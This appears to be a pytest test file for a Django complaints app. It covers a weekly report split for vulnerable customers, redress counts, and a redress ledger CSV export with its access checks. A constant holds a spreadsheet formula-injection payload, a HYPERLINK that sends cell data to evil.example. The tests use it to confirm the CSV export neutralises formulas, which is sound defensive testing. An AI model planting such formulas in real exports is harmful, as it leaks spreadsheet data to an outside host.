"""The weekly report splits vulnerable customers' figures and counts redress; the ledger's CSV."""

import csv
import io
from datetime import timedelta

import pytest
from django.test import Client

from complaints.escalations import redress
from complaints.reports import compose
from customers import services
from tests.reports.fixtures import WEEK, handle, local

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'


def flag(customer, by, at, **data):
    values = {"kind": "health", "permanent": True, **data}
    return services.customer_set_vulnerability(customer=customer, data=values, by=by, now=at)


def monday():
    from complaints.reports.weeks import parse_week

    return parse_week(WEEK)


@pytest.fixture
def split_week(staff_user):
    quick = {"respond_after": timedelta(minutes=10), "close_after": timedelta(hours=3)}
    late = {"respond_after": timedelta(hours=2), "close_after": timedelta(hours=30)}
    v1, _w = handle(by=staff_user, received=local(2026, 11, 16, 9), score=1, **quick)
    v2, _w = handle(by=staff_user, received=local(2026, 11, 17, 9), score=5, **late)
    handle(by=staff_user, received=local(2026, 11, 18, 9), score=4, **quick)
    # Flagged and cleared before this complaint was received: counts with the others.
    o2, _w = handle(by=staff_user, received=local(2026, 11, 18, 11), score=2, **quick)
    # Flagged only after it was closed: the others too.
    o3, _w = handle(by=staff_user, received=local(2026, 11, 19, 9), **quick)
    for complaint in (v1, v2):
        flag(complaint.customer, staff_user, local(2026, 11, 1, 9))
    flag(o2.customer, staff_user, local(2026, 11, 1, 9))
    services.customer_clear_vulnerability(customer=o2.customer, by=staff_user, now=local(2026, 11, 5, 9))
    flag(o3.customer, staff_user, local(2026, 11, 25, 9))
    return v1, v2


def test_report_splits_vulnerable_customers(split_week):
    report = compose.build_report(monday(), now=local(2026, 11, 30, 10))
    v, o = report["vulnerable"]["vulnerable"], report["vulnerable"]["others"]
    assert (v["received"], v["closed"]) == (2, 2)
    assert (v["response_due"], v["response_met"], v["response_pct"]) == (2, 1, 50.0)
    assert (v["resolution_met"], v["resolution_pct"]) == (1, 50.0)
    assert (v["responses"], v["average"], v["dissatisfied"], v["dissatisfied_share"]) == (2, 3.0, 1, 50.0)
    assert (o["received"], o["closed"], o["response_met"], o["resolution_met"]) == (3, 3, 3, 3)
    assert (o["responses"], o["average"], o["dissatisfied"]) == (2, 3.0, 1)
    assert report["totals"]["received"] == v["received"] + o["received"]


def test_split_and_redress_keep_the_query_count_fixed(split_week, staff_user, django_assert_num_queries):
    v1, _v2 = split_week
    redress.redress_step(
        complaint=v1,
        data={"step": "offer", "amount": "10.00", "description": "x"},
        by=staff_user,
        now=local(2026, 11, 17, 9),
    )
    with django_assert_num_queries(compose.QUERIES_PER_REPORT):
        compose.build_report(monday(), now=local(2026, 11, 30, 10))


def test_the_page_shows_the_split_to_managers(split_week, manager_user):
    client = Client()
    client.force_login(manager_user)
    page = client.get(f"/reports/weekly/?week={WEEK}").content.decode()
    assert 'id="vulnerable-split"' in page
    assert '<td class="num" id="vulnerable-received">2</td>' in page
    table = client.get(f"/reports/weekly/?week={WEEK}&format=csv&table=vulnerable_customers")
    rows = list(csv.reader(io.StringIO(table.content.decode("utf-8-sig"))))
    assert rows[0] == ["Figure", "Vulnerable customers", "Other customers"]
    assert rows[1] == ["Received", "2", "3"]


# --- redress -------------------------------------------------------------------------


@pytest.fixture
def redress_week(staff_user):
    """Two delivery complaints (supplier) and one product one (defect), with redress steps in the
    week, and one step from the week before that must not count."""
    quick = {"respond_after": timedelta(minutes=10), "close_after": timedelta(hours=3)}
    a, _w = handle(by=staff_user, received=local(2026, 11, 9, 9), cause="supplier", **quick)
    b, _w = handle(by=staff_user, received=local(2026, 11, 16, 9), cause="supplier", **quick)
    c, _w = handle(
        by=staff_user, received=local(2026, 11, 16, 10), cause="defect", category="product_quality", **quick
    )

    def take(complaint, step, at, **data):
        return redress.redress_step(complaint=complaint, data={"step": step, **data}, by=staff_user, now=at)

    offer = {"amount": "40.00", "description": "Refund of the delivery fee"}
    take(a, "offer", local(2026, 11, 10, 9), **offer)  # last week: not counted as offered
    take(a, "accept", local(2026, 11, 16, 12))
    take(a, "pay", local(2026, 11, 17, 12), paid_on="2026-11-17", method="bank_transfer", reference=EVIL)
    take(b, "offer", local(2026, 11, 17, 9), **offer)
    take(b, "decline", local(2026, 11, 18, 9))
    take(c, "offer", local(2026, 11, 18, 9), amount="25.50", description=EVIL)
    take(c, "accept", local(2026, 11, 19, 9))
    return a, b, c


def test_report_counts_redress_per_week_category_and_cause(redress_week):
    r = compose.build_report(monday(), now=local(2026, 11, 30, 10))["redress"]
    assert (r["offered"], r["accepted"], r["declined"], r["paid"]) == (2, 2, 1, 1)
    assert (r["offered_amount"], r["paid_amount"]) == ("65.50", "40.00")
    by_cause = {x["code"]: x for x in r["by_root_cause"]}
    assert (by_cause["supplier"]["offered"], by_cause["supplier"]["accepted"]) == (1, 1)
    assert (by_cause["supplier"]["declined"], by_cause["supplier"]["paid"]) == (1, 1)
    assert by_cause["defect"]["offered_amount"] == "25.50" and by_cause["defect"]["paid"] == 0
    by_category = {x["code"]: x for x in r["by_category"]}
    assert by_category["delivery"]["paid_amount"] == "40.00"
    assert by_category["product_quality"]["accepted"] == 1


def test_redress_ledger_csv_is_safe_and_covers_the_week(redress_week, manager_user, staff_user):
    client = Client()
    client.force_login(manager_user)
    answer = client.get(f"/reports/redress.csv?week={WEEK}")
    assert answer.status_code == 200
    assert answer["Content-Disposition"] == f'attachment; filename="redress-{WEEK}.csv"'
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
    assert rows[0][:6] == ["Complaint", "Category", "Root cause", "Amount", "What is offered", "Status"]
    a, b, c = redress_week
    assert [row[0] for row in rows[1:]] == [a.reference, b.reference, c.reference]
    paid = rows[1]
    assert paid[5] == "Paid" and paid[9] == "2026-11-17" and paid[10] == "Bank transfer"
    assert paid[11] == "'" + EVIL  # a formula arrives as text
    assert rows[3][4] == "'" + EVIL and rows[3][3] == "25.50"
    assert client.get("/reports/redress.csv?week=2026-W99").status_code == 400
    staff = Client()
    staff.force_login(staff_user)
    assert staff.get(f"/reports/redress.csv?week={WEEK}").status_code == 403


def test_the_page_shows_redress_and_links_the_ledger(redress_week, manager_user):
    client = Client()
    client.force_login(manager_user)
    page = client.get(f"/reports/weekly/?week={WEEK}").content.decode()
    assert 'id="redress-report"' in page
    assert "Offered 2 (65.50), accepted 2, declined 1, paid 1 (40.00)." in page
    assert f"/reports/redress.csv?week={WEEK}" in page


def test_a_week_published_before_the_split_still_reads(split_week, manager_user):
    from complaints.models import WeeklyReportSnapshot

    data = compose.build_report(monday(), now=local(2026, 11, 30, 10))
    del data["vulnerable"], data["redress"]
    WeeklyReportSnapshot.objects.create(week=WEEK, data=data)
    client = Client()
    client.force_login(manager_user)
    page = client.get(f"/reports/weekly/?week={WEEK}")
    assert page.status_code == 200
    assert 'id="vulnerable-split"' not in page.content.decode()
    assert (
        client.get(f"/reports/weekly/?week={WEEK}&format=csv&table=vulnerable_customers").status_code == 404
    )
    assert client.get(f"/api/reports/weekly/?week={WEEK}").status_code == 200
